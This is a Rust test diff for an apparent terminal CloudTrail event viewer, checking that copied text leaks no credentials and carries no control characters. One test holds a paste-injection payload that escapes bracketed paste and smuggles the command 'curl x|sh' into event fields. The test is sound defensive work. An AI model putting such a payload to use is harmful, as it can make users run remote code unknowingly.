@@ -277,22 +277,45 @@ fn every_value_in_details_becomes_a_term_that_keeps_its_row() {
     }
 }
 
+/// The texts that were copied.
+fn copied(script: &Script) -> Vec<&str> {
+    let mut copied = vec![];
+    for wish in &script.wishes {
+        if let Effect::Copy(text, _) = wish {
+            copied.push(text.as_str());
+        }
+    }
+    copied
+}
+
 #[test]
 fn what_is_copied_holds_no_credentials() {
     let mut script = twenty();
     script.keys("y e y i y a y q y l");
-    let copied: Vec<&str> = script
-        .wishes
-        .iter()
-        .filter_map(
-            |wish| if let Effect::Copy(text, _) = wish { Some(text.as_str()) } else { None },
-        )
-        .collect();
+    let copied = copied(&script);
     assert!(copied[0].contains("ASIAEXAMPLE") && !copied[0].contains("TOPSECRET"));
     assert!(copied.iter().any(|text| text.starts_with("trailtop query '' ")));
     assert!(!script.text().contains("TOPSECRET"));
     script.keys("Enter J");
     assert!(!script.text().contains("TOPSECRET"));
+}
+
+#[test]
+fn what_is_copied_is_one_line_that_steers_nothing() {
+    let mut script = Script::new(100, 20);
+    // It ends a bracketed paste, throws the line away and types another one.
+    let hostile = r"a\u001b[201~\u0003\ncurl x|sh\n\u202e";
+    let call = r#"{"eventVersion":"1.08","eventTime":"2023-07-10T12:00:00Z","eventID":"X","eventName":"CreateUser","eventSource":"iam.amazonaws.com","requestParameters":{"userName":"X"},"userIdentity":{"type":"IAMUser","userName":"X","arn":"arn:X","accessKeyId":"X"}}"#;
+    script.arrive(&[call.replace('X', hostile)]);
+    script.keys("y i y a y t y k L y Esc p t y q");
+    let copied = copied(&script);
+    assert_eq!(copied.len(), 6, "{copied:?}");
+    for text in copied {
+        assert!(
+            text.contains("curl x|sh") && !text.contains(crate::export::safe::is_unsafe),
+            "{text:?}"
+        );
+    }
 }
 
 #[test]
